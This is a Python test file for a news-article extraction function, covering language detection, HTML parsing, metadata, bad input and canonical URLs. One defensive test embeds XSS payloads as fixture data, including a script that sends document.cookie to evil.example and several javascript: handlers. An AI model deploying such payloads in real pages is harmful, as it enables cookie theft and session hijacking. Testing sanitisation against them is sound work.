"""Raw input to Articles: HTML through trafilatura, the plain-text dispatch, languages, and
hostile, empty or oversized input."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sample_texts import PARAGRAPHS

from newsbrief.errors import InputError, NewsbriefError
from newsbrief.reading.extraction import extract


def error_code(source: str | bytes, **kwargs: str) -> str:
    with pytest.raises(InputError) as caught:
        extract(source, **kwargs)  # type: ignore[arg-type]
    return caught.value.code


def test_only_chrome_is_no_article() -> None:
    assert error_code("Share\n\nAdvertisement\n\nSubscribe now\nRead more") == "no_article"


# --- languages ---------------------------------------------------------------------------------


NON_ENGLISH = {
    "fr": "Le conseil municipal a adopté mardi le budget annuel après un long débat sur la "
    "réparation des routes et le financement des écoles. Le maire a déclaré que les impôts "
    "resteraient stables.",
    "de": "Der Stadtrat hat am Dienstag nach einer langen Debatte über Straßenreparaturen und "
    "die Finanzierung der Schulen den Jahreshaushalt verabschiedet. Die Steuern bleiben stabil.",
    "es": "El ayuntamiento aprobó el martes el presupuesto anual tras un largo debate sobre la "
    "reparación de las carreteras y la financiación de las escuelas. Los impuestos no subirán.",
    "ru": "Городской совет во вторник утвердил годовой бюджет после долгих споров о ремонте "
    "дорог и финансировании школ. Мэр заявил, что налоги останутся прежними.",
}


@pytest.mark.parametrize(("code", "text"), sorted(NON_ENGLISH.items()))
def test_language_detection(code: str, text: str) -> None:
    assert extract(text).language == code
    assert extract(text.encode("utf-8")).language == code


def test_language_override_and_validation() -> None:
    assert extract(NON_ENGLISH["fr"], language="FR").language == "fr"
    assert error_code(NON_ENGLISH["fr"], language="French!") == "invalid_language"


def test_latin1_bytes_text_page() -> None:
    article = extract(NON_ENGLISH["fr"].encode("latin-1"))
    assert article.text == NON_ENGLISH["fr"]


# --- HTML ---------------------------------------------------------------------------------------


def html_page(body: str, head: str = "") -> str:
    return f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>"


def test_html_article_with_metadata() -> None:
    head = (
        "<title>Council approves budget</title>"
        '<meta name="author" content="Jane Doe">'
        '<meta property="article:published_time" content="2024-03-03T10:15:00Z">'
    )
    body = (
        "<nav><a href='/'>Home</a> <a href='/news'>News</a></nav><article>"
        "<h1>Council approves budget</h1>"
        + "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
        + "</article><footer>© 2024 Example News. All rights reserved.</footer>"
    )
    article = extract(html_page(body, head), url="https://example.org/budget")
    assert article.text == "\n\n".join(PARAGRAPHS)
    assert article.title == "Council approves budget"
    assert article.byline == "Jane Doe"
    assert article.published == "2024-03-03"
    assert article.language == "en"


def test_html_bytes_with_declared_legacy_charset() -> None:
    head = '<meta charset="windows-1251"><title>Бюджет</title>'
    page = html_page(f"<article><p>{NON_ENGLISH['ru']}</p></article>", head)
    article = extract(page.encode("cp1251"))
    assert NON_ENGLISH["ru"] in article.text
    assert article.language == "ru"


def test_html_fragment_is_html() -> None:
    article = extract("".join(f"<p>{p}</p>" for p in PARAGRAPHS))
    assert article.text == "\n\n".join(PARAGRAPHS)


@pytest.mark.parametrize(
    "page",
    [
        html_page(""),
        html_page(
            "<nav><a href='/'>Home</a> <a href='/about'>About</a></nav>", "<title>Site</title>"
        ),
        html_page("<div><img src='a.png'><img src='b.png'></div>"),
    ],
)
def test_html_without_article(page: str) -> None:
    assert error_code(page) == "no_article"


def test_html_of_only_scripts_and_styles() -> None:
    page = html_page(
        "<script>document.write('A long paragraph of injected text, looking like prose.')</script>"
        "<script>var story = 'The council approved the budget on Tuesday after debate.';</script>",
        "<style>body { color: red } p::after { content: 'Styled text, not an article.' }</style>",
    )
    assert error_code(page) == "no_article"


def test_hostile_html_never_leaks_script() -> None:
    body = (
        "<article><h1 onmouseover=\"alert('h1')\">Council approves budget</h1>"
        f"<p onclick=\"alert('click')\">{PARAGRAPHS[0]}</p>"
        "<script>alert('pwned'); fetch('https://evil.example/?c=' + document.cookie)</script>"
        f"<p>{PARAGRAPHS[1]} <a href=\"javascript:alert('x')\">Details</a></p>"
        "<img src=x onerror=\"alert('img')\"><iframe src=\"javascript:alert('frame')\"></iframe>"
        "<svg><script>alert('svg')</script></svg>"
        "<style>p { background: url(javascript:alert(1)) }</style>"
        f"<p>{PARAGRAPHS[2]}</p><script type='module'>import('evil.js')</script></article>"
    )
    article = extract(html_page(body))
    for leak in ("alert", "javascript", "document.cookie", "evil", "onerror", "onclick", "<"):
        assert leak not in article.text
        assert leak not in (article.title or "")
    for paragraph in PARAGRAPHS:
        assert paragraph in article.text


def test_kind_text_keeps_markup_as_text_and_unknown_kind_fails() -> None:
    article = extract("<p>" + PARAGRAPHS[0] + "</p>", kind="text")
    assert article.text.startswith("<p>")
    assert error_code(PARAGRAPHS[0], kind="pdf") == "unknown_kind"


# --- bad input -----------------------------------------------------------------------------------


@pytest.mark.parametrize("source", ["", "   \n\t", b"", b"\n\n"])
def test_empty_input(source: str | bytes) -> None:
    assert error_code(source) == "empty_input"


def test_binary_input() -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)
    with pytest.raises(InputError) as caught:
        extract(png)
    assert caught.value.code == "binary_input"
    assert "PNG" in caught.value.message


def test_fifty_megabytes_is_refused_fast() -> None:
    data = (PARAGRAPHS[0] + "\n\n").encode() * (50 * 1024 * 1024 // (len(PARAGRAPHS[0]) + 2) + 1)
    start = time.perf_counter()
    assert error_code(data) == "too_large"
    assert error_code(data.decode()) == "too_large"
    assert time.perf_counter() - start < 1.0


HTMLISH = st.lists(
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<script>",
            "</script>",
            "<div>",
            "&amp;",
            "<!--",
            "-->",
            "\n\n",
            "\x00",
            "By Jane Doe",
            "Share",
            "Previous Article",
            "Hello world. ",
            PARAGRAPHS[0],
            "<html>",
            "é",
        ]
    ),
    max_size=30,
).map("".join)


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.text(max_size=400), HTMLISH, st.binary(max_size=400)))
def test_anything_raises_only_newsbrief_errors(source: str | bytes) -> None:
    try:
        article = extract(source)
    except NewsbriefError:
        return
    assert article.text.strip()
    assert "\n\n\n" not in article.text


def test_language_identification_can_be_skipped() -> None:
    text = "The council approved the new budget on Tuesday after a long and heated debate."
    assert extract(text).language == "en"
    assert extract(text, identify_language=False).language is None


# --- canonical URL and headline (issue 13) --------------------------------------------------------


def story_page(head: str) -> str:
    return html_page("<article>" + "".join(f"<p>{p}</p>" for p in PARAGRAPHS) + "</article>", head)


def test_the_canonical_url_is_the_articles_when_none_is_given() -> None:
    head = (
        '<link rel="canonical" href="https://news.example/2024/03/03/budget">'
        '<meta property="og:url" content="https://news.example/og">'
    )
    assert extract(story_page(head)).url == "https://news.example/2024/03/03/budget"
    assert extract(story_page(head), url="https://given.example/a").url == "https://given.example/a"
    og_only = '<meta property="og:url" content="https://news.example/og">'
    assert extract(story_page(og_only)).url == "https://news.example/og"


@pytest.mark.parametrize(
    "href", ["/2024/budget", "javascript:alert(1)", "data:text/html,x", "//news.example/x"]
)
def test_a_canonical_url_that_is_not_absolute_http_is_ignored(href: str) -> None:
    assert extract(story_page(f'<link rel="canonical" href="{href}">')).url is None


def test_site_names_leave_the_headline() -> None:
    head = (
        "<title>Council approves budget - News Nation</title>"
        '<meta property="og:title" content="Council approves the annual budget | News Nation">'
        '<meta property="og:site_name" content="News Nation">'
    )
    assert extract(story_page(head)).title == "Council approves the annual budget"
